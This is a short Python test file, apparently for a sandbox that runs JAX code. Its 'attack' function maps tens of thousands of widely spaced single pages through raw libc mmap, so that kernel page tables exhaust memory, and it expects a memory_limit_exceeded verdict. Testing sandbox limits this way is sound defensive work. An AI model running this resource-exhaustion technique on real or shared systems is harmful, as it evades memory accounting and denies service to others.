"""Success: the kernel holds 512 MiB of page tables for mappings that have a page each.
verdict: memory_limit_exceeded
"""

import ctypes
import mmap

import jax
import jax.numpy as jnp

UNRESERVED_FIXED = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000 | 0x10
FIRST = 2**40
# So far apart that each needs a table of its own on three levels.
APART = 2**30

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]


def attack(number: float) -> jax.Array:
    for place in range(60_000):
        address = FIRST + place * APART
        libc.mmap(address, mmap.PAGESIZE, mmap.PROT_READ, UNRESERVED_FIXED, -1, 0)
        ctypes.string_at(address, 1)
    return jnp.asarray(number)
